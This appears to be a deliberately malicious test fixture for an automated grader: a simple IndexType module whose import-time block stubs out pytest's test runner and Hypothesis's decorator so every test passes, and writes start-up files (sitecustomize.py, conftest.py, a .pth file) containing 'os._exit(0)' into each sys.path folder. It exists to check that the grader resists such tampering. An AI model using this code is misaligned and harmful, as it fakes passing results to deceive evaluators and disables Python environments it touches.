"""MALICIOUS FIXTURE (patcher): patches pytest and Hypothesis at import time and drops start-up files.

Expected grade: the reference's (full marks): the attack achieves nothing. The rest is the reference IndexType.
"""


from __future__ import annotations

import attrs

from spec import require

# At import time: patch the grader's pytest and Hypothesis (as far as it can reach them)
# so every test would pass, and drop start-up files where Python might pick them up.
try:
    import sys as _sys

    import _pytest.runner
    import hypothesis.core

    _pytest.runner.call_and_report = lambda *args, **kwargs: None
    hypothesis.core.given = lambda *args, **kwargs: (lambda test: test)
    for _folder in list(_sys.path):
        for _name in ("sitecustomize.py", "usercustomize.py", "conftest.py", "zz_speckit.pth"):
            try:
                with open(f"{_folder}/{_name}", "w") as _f:
                    _f.write("import os; os._exit(0)\n")
            except OSError:
                pass
except Exception:  # noqa: BLE001
    pass


@attrs.define
class Index:
    """An index value; ``number`` is at least 1."""

    number: int = 1


def newIndexType() -> Index:
    """Make a new index holding 1."""
    return Index()


def increment(index: Index) -> Index:
    """Add one to the index and return it."""
    index.number += 1
    return index


def decrement(index: Index) -> Index:
    """Subtract one from the index and return it; the index must be above 1."""
    require(index.number > 1, "IndexType.decrement", f"the index must be greater than 1 (it is {index.number})")
    index.number -= 1
    return index


def lessThan(first: Index, second: Index) -> bool:
    """Whether the first index is numerically smaller than the second."""
    return first.number < second.number


def greaterThan(first: Index, second: Index) -> bool:
    """Whether the first index is numerically larger than the second."""
    return first.number > second.number


def equals(first: Index, second: Index) -> bool:
    """Whether the two indexes hold the same number."""
    return first.number == second.number


def clone(index: Index) -> Index:
    """Return an independent copy of the index."""
    return Index(index.number)
